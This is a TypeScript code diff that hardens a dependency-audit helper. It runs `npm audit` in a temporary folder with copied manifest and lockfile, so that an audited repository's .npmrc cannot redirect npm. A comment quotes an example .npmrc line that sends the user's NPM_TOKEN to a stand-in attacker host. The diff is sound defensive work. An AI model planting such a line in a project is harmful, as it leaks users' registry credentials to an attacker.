@@ -1,3 +1,6 @@
+import { copyFileSync, existsSync, mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
 import { redactText } from '../../core/redact.ts';
 import { isRecord } from './package-manifests.ts';
 import { runTool } from './run-tool.ts';
@@ -122,19 +125,32 @@ function reasonOf(stdout: string, stderr: string): string {
 }
 
 /**
- * `npm audit --json --package-lock-only` in `root`: reads only the lockfile (never node_modules,
+ * `npm audit --json --package-lock-only` on `root`'s lockfile: reads only the lockfile (never node_modules,
  * never `fix`), asks the configured registry, and gives up after 20 s. Any failure is a skip note.
  */
 export function npmAudit(root: string, lockfile: string, env: NodeJS.ProcessEnv): AdvisoryOutcome {
-  const run = runTool(
-    'npm',
-    ['audit', '--json', '--package-lock-only', '--fetch-retries=0', '--fetch-timeout=15000'],
-    {
-      cwd: root,
-      env: { ...env, npm_config_update_notifier: 'false', npm_config_fund: 'false', NO_COLOR: '1' },
-      timeoutMs: TIMEOUT_MS,
-    },
-  );
+  // npm runs in a private folder with copies of the manifest and the lockfile, never in the
+  // repository: an audited repository's own .npmrc could otherwise point npm at a registry of its
+  // choosing and have it send the user's tokens there (`//evil.example/:_authToken=${NPM_TOKEN}`).
+  // The user's own npm configuration (~/.npmrc, npm_config_* variables) still applies.
+  const dir = mkdtempSync(path.join(tmpdir(), 'improve-npm-audit-'));
+  let run: ReturnType<typeof runTool>;
+  try {
+    for (const file of ['package.json', lockfile]) {
+      if (existsSync(path.join(root, file))) copyFileSync(path.join(root, file), path.join(dir, file));
+    }
+    run = runTool(
+      'npm',
+      ['audit', '--json', '--package-lock-only', '--fetch-retries=0', '--fetch-timeout=15000'],
+      {
+        cwd: dir,
+        env: { ...env, npm_config_update_notifier: 'false', npm_config_fund: 'false', NO_COLOR: '1' },
+        timeoutMs: TIMEOUT_MS,
+      },
+    );
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
   const skipped = (why: string): AdvisoryOutcome => ({
     kind: 'skipped',
     note: `dependency advisories (${lockfile}): npm audit ${why}; run \`npm audit\` yourself when online`,
